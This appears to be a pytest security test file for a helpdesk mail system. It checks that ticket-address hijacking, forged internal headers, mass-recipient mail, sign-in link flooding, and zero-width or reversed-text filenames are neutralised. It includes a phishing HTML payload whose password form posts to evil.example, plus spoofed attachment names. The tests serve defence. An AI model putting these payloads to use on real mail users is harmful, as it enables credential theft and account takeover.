"""What a mail claims by its words, its names and its headers, and what the desk makes of that (sections A and B)."""

from __future__ import annotations

from dataclasses import replace
from email.message import EmailMessage
from pathlib import Path

import pytest
from flask import Flask
from sqlalchemy import func, select

from config import Settings
from helpdesk.db import session
from helpdesk.delivery import compose
from helpdesk.people import find
from helpdesk.tickets import participants
from helpdesk.tickets.links import Thread, signer
from helpdesk.tickets.models import Attachment, Delivery, Message
from tests.cast import Case, Character
from tests.plugins.post import SUPPORT, Post, letter
from tests.visitor import Visitor

OLGA = "olga@example.org"
CHATTY = Path(__file__).parents[1] / "mail/chatty.yaml"


@pytest.fixture
def settings(settings: Settings, tmp_path: Path) -> Settings:
    """A file that shows the customer whatever anybody writes."""
    careless = tmp_path / "careless.yaml"
    careless.write_text(CHATTY.read_text().replace("other: comment", "other: answered"))
    return replace(settings, workflows=str(careless))


def to_the_ticket_of(app: Flask, case: Case) -> str:
    """The support address with the code that is printed in each mail to its customer."""
    with app.app_context():
        person = find.by_email(OLGA)
        assert person is not None
        token = signer().reply_token(Thread(case.id, person.id)).removeprefix("ref:")
    return SUPPORT.replace("@", f"+{token}@")


SERVICES = {
    "no-reply": letter("no-reply@slack.example", "Your code is 481920", subject="Join Acme on Slack"),
    "no-reply that names an address for answers": letter(
        "noreply@slack.example", "Here is 481-920", Reply_To="help@slack.example"
    ),
    "verify": letter("verify@shop.example", "https://shop.example/v?t=481920", subject="Welcome"),
    "security": letter("security-noreply@mail.example", "481920"),
    "a code": letter("hello@shop.example", "481920 is your verification code.", subject="Welcome to the shop"),
    "a link to confirm": letter("team@shop.example", "Please confirm your e-mail: https://shop.example/481920"),
    "a new password": letter("team@shop.example", "Choose a new password at https://shop.example/481920"),
    "in German": letter("team@shop.example", "Ihr Bestätigungscode lautet 481920"),
    "in Chinese": letter("team@shop.example", "您的验证码是 481920"),
    "a robot with a header": letter("team@shop.example", "481920", Auto_Submitted="auto-generated"),
}


@pytest.mark.parametrize("name", SERVICES)
def test_a_code_of_another_service_is_not_shown_to_whoever_has_the_ticket(app: Flask, post: Post, name: str) -> None:
    """Attack 25: signed up elsewhere as support+code@, to read what comes in the cabinet."""
    case = post.case(letter(OLGA))
    mail = EmailMessage()
    for header, value in SERVICES[name].items():
        mail[header] = to_the_ticket_of(app, case) if header == "To" else value
    mail.set_payload(SERVICES[name].get_payload(), "utf-8")
    sent = len(post.sink.received)
    assert post.case(mail, to=[mail["To"]]).id == case.id
    assert (case.messages[-1].audience, case.story[-1]) == ("internal", "filed")
    assert "481" in case.messages[-1].text, "staff read it"
    cabinet = Visitor(app).is_let_in(OLGA, "cabinet")
    assert "481" not in cabinet.opens(f"/my/requests/{case.ref}").text
    assert len(post.sink.received) == sent


def test_what_a_colleague_of_the_customer_writes_is_what_the_file_says(app: Flask, post: Post) -> None:
    """The other side of attack 25: people are not held back."""
    case = post.case(letter(OLGA))
    answer = letter("peter@example.org", "It is the one on the third floor.", to=to_the_ticket_of(app, case))
    assert post.case(answer, to=[str(answer["To"])]).id == case.id
    assert case.messages[-1].audience == "public"


def test_a_service_that_is_the_customer_itself_reads_its_own_words(post: Post) -> None:
    case = post.case(letter("team@shop.example", "Please confirm your e-mail to our colleague."))
    again = post.case(letter("team@shop.example", "Verify your account data.", answers=post.sink.received[-1].message))
    assert again.id == case.id
    assert case.messages[-1].audience == "public"


def test_headers_of_ours_that_a_mail_brings_change_nothing(app: Flask, post: Post) -> None:
    """Attack 30: every header we write, and names beside it, with values of the sender's choice."""
    plain = post.case(letter("peter@example.org", "It smokes."))
    ours = [name for name in compose.ONCE if name.startswith("x-")]
    assert "x-helpdesk-loop" in ours
    more = ["x-helpdesk-state", "x-helpdesk-assignee", "x-helpdesk-ticket", "x-helpdesk-action", "x-helpdesk-verified"]
    claimed = {name.replace("-", "_"): "R-1 done root@acme.example close None" for name in (*ours, *more)}
    claimed["x_auto_response_suppress"] = "None"
    case = post.case(letter(OLGA, "It smokes.", **claimed))
    assert (case.state, case.assignee, case.group, case.story) == (plain.state, None, plain.group, plain.story)
    receipt = post.to(OLGA)[-1].message
    assert "root@acme.example" not in receipt.as_string()
    assert len(receipt.get_all("X-Helpdesk-Loop", [])) == 1


def test_a_mail_with_ten_thousand_recipients_is_a_ticket_with_few_in_copy(app: Flask, post: Post) -> None:
    """Attack 38: nobody of them is written to, and 48 at most are noted."""
    crowd = ", ".join([SUPPORT, *(f"u{number}@crowd.example" for number in range(10_000))])
    head = f"From: {OLGA}\r\nTo: {crowd}\r\nCc: {crowd}\r\nSubject: All of you\r\n\r\nHello\r\n"
    case = post.case(head.encode())
    with app.app_context():
        noted = session().scalar(select(func.count()).select_from(participants.Participant))
        assert noted == participants.MOST == 48
        assert session().scalars(select(Delivery.recipient)).all() == [OLGA]
        assert session().scalars(select(Message.text)).all() == ["Hello"]
    assert case.subject == "All of you"


FORM = (
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">'
    '<form action="https://evil.example/in"><input name="password" type="password"><button>Sign in</button>'
    "<select><option>x</option></select><textarea>y</textarea></form><p>Please sign in again.</p>"
)


def test_a_form_in_a_mail_is_words_alone(app: Flask, post: Post, ann: Character) -> None:
    """Attack 13: nothing to fill in, to press or to be sent on by; on the page and in what is kept."""
    mail = letter(OLGA)
    mail.add_alternative(FORM, subtype="html")
    case = post.case(mail)
    kept = case.messages[0].html
    desk = Visitor(app).is_let_in(ann.email)
    framed = desk.opens(f"/desk/tickets/{case.ref}/messages/{case.messages[0].id}/html")
    assert framed.status_code == 200
    assert "Please sign in again." in kept
    for html in (kept, framed.text):
        for tag in ("<form", "<input", "<button", "<select", "<textarea", "<base", "http-equiv", "evil.example"):
            assert tag not in html, tag


def test_what_cannot_be_seen_in_names_is_gone_before_anything_is_judged(app: Flask, post: Post, ann: Character) -> None:
    """Attack 16: zero width signs, turned around texts and names that are a command of a web server."""
    mail = letter("\u202eBo\u200bris\u2066 <olga@example.org>", subject="Pay\u200bment \u202etsil\u2069")
    for name in ("\u200b.htaccess", "a\u202egpj.exe", "\ufeff\u2060.env", "in\u00advoice.pdf"):
        mail.add_attachment(b"x" + name.encode(), maintype="application", subtype="octet-stream", filename=name)
    case = post.case(mail)
    assert case.subject == "Payment tsil"
    with app.app_context():
        person = find.by_email(OLGA)
        assert person is not None
        assert person.name == "Boris"
        rows = session().scalars(select(Attachment).order_by(Attachment.id)).all()
        assert [each.filename for each in rows] == ["htaccess", "agpj.exe", "env", "invoice.pdf"]
        files = [path.name for path in Path(app.config["HELPDESK"].var).rglob("*") if path.is_file()]
    assert not any("htaccess" in name or "exe" in name for name in files), "on the disk a file has a name of ours"


def test_nobodys_mailbox_is_filled_by_asking_for_links(app: Flask, post: Post) -> None:
    """Attack 34: two hundred wishes for a link, from many networks; the answers say nothing of it."""
    post.case(letter(OLGA))
    post.sink.forgets()
    said = set()
    for number in range(200):
        visitor = Visitor(app, ip=f"198.51.100.{number % 100}")
        visitor.opens("/my/sign-in")
        answer = visitor.sends("/my/sign-in", email=OLGA)
        said.add((answer.status_code, answer.headers.get("Location")))
    post.turn()
    assert 1 <= len(post.to(OLGA)) <= 3
    assert len(said) == 1
